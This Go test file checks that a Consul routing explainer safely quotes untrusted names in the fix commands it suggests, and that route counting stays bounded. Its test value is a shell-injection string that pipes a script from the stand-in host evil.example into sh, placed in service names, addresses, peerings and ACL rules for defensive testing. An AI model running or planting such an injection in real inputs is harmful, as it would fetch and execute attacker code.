package explain_test

import (
	"fmt"
	"strings"
	"testing"

	"isthmus/explain"
	isthmusv1 "isthmus/proto/isthmus/v1"
	"isthmus/resource"
)

// What people paste is not what a name in Consul wants them to run.
func TestFixesAreNoOnesScript(t *testing.T) {
	t.Parallel()
	const evil = "x'; curl evil.example | sh; echo '"
	quoted := strings.NewReplacer(
		`'x'\''; curl evil.example | sh; echo '\'''`, "QUOTED",
		`"x'\''; curl evil.example | sh; echo '\''"`, "QUOTED", // in a manifest, which is quoted as a whole
		`/v1/health/checks/x%27%3B%20curl%20evil.example%20%7C%20sh%3B%20echo%20%27`, "QUOTED",
	)
	leads := func(to map[string]any, services ...*isthmusv1.CatalogService) func(w *world) {
		return func(w *world) {
			w.put("dc9", "service-resolver/api", map[string]any{"Redirect": to})
			w.seen["dc9"].Services.Body.Services = services
		}
	}
	there := map[string]any{"Service": evil}
	for name, do := range map[string]func(w *world){
		"it is not exported, nor let in": leads(there, &isthmusv1.CatalogService{Name: evil, Instances: 1, Healthy: 1, Mesh: true}),
		"it has no sidecar":              leads(there, &isthmusv1.CatalogService{Name: evil, Instances: 1, Healthy: 1}),
		"it is not healthy":              leads(there, &isthmusv1.CatalogService{Name: evil, Instances: 1, Mesh: true}),
		"it is not there":                leads(there),
		"a namespace":                    leads(map[string]any{"Service": "other", "Namespace": evil}),
		"an entry stands in the way":     func(w *world) { w.put("dc9", "service-resolver/api", map[string]any{"Redirect": there}) },
		"a peering by hand": func(w *world) {
			w.Delete(resource.KindPeering, "dc9-dc1")
			w.connections = nil
			for _, dc := range []string{"dc1", "dc9"} {
				o := w.seen[dc].Peerings.Body.Peerings[0]
				o.PeerName, o.Origin, o.PeerId = evil, resource.OriginForeign, "id"
			}
		},
		"an address": func(w *world) {
			w.seen["dc9"].Inventory.Body.Gateways[0].WanAddress = evil
			probe := w.seen["dc1"].Federation.Body.Probes[0]
			probe.Address, probe.Ok = evil, false
		},
		"a right": func(w *world) {
			w.seen["dc9"].Services.Body.Services = nil
			w.seen["dc9"].Rights.Body.Missing = []*isthmusv1.MissingRight{{Rule: `service_prefix "" { policy = "write" } # ` + evil}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := peered()
			do(w)
			for _, h := range w.explain(t, "web@dc1", "api@dc9").GetHops() {
				if fix := quoted.Replace(h.GetFix()); strings.Contains(fix, "evil") || strings.Contains(fix, `"write"`) {
					t.Errorf("%s: %s", h.GetId(), h.GetFix())
				} else if fix != "" {
					t.Logf("%s: %s", h.GetId(), h.GetFix())
				}
			}
		})
	}
}

// layers are splitters of which each leads to all of the next layer: width^levels ways.
func layers(w *world, dc string, levels, width int) {
	for level := range levels {
		for n := range width {
			var splits []any
			for next := range width {
				splits = append(splits, map[string]any{"Weight": 100 / float64(width), "Service": fmt.Sprintf("s%d-%d", level+1, next)})
			}
			name := fmt.Sprintf("s%d-%d", level, n)
			if level+n == 0 {
				name = "api"
			}
			w.put(dc, "service-splitter/"+name, map[string]any{"Splits": splits})
		}
	}
}

func TestWaysHaveAnEnd(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		do       func(w *world)
		is, says string
	}{
		"a thousand":      {func(w *world) { layers(w, "dc9", 3, 10) }, resource.CheckFail, "and 980 more ways"},
		"too many":        {func(w *world) { layers(w, "dc9", 12, 10) }, resource.CheckUnknown, "more than 1000 ways"},
		"too many behind": {func(w *world) { layers(w, "dc1", 12, 10) }, resource.CheckUnknown, "more than 1000 ways"},
		"one is too long": {func(w *world) {
			var targets []any
			for n := range 20000 {
				targets = append(targets, map[string]any{"Service": fmt.Sprint("other", n)})
			}
			w.put("dc9", "service-resolver/api", map[string]any{"Failover": map[string]any{"*": map[string]any{"Targets": targets}}})
		}, resource.CheckUnknown, "through more than 10000 entries"},
		"weights of nothing": {func(w *world) {
			w.put("dc9", "service-splitter/api", map[string]any{"Splits": []any{map[string]any{"Weight": -1e308}, map[string]any{"Weight": 0}}})
		}, resource.CheckPass, "0% of calls"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := peered()
			tt.do(w)
			h := hop(w.explain(t, "web@dc1", "api@dc9"), explain.HopResolver)
			if text := h.GetMessage() + strings.Join(h.GetEvidence(), "\n"); h.GetVerdict() != tt.is || !strings.Contains(text, tt.says) {
				t.Errorf("%s: %.2000s", h.GetVerdict(), text)
			}
		})
	}
}
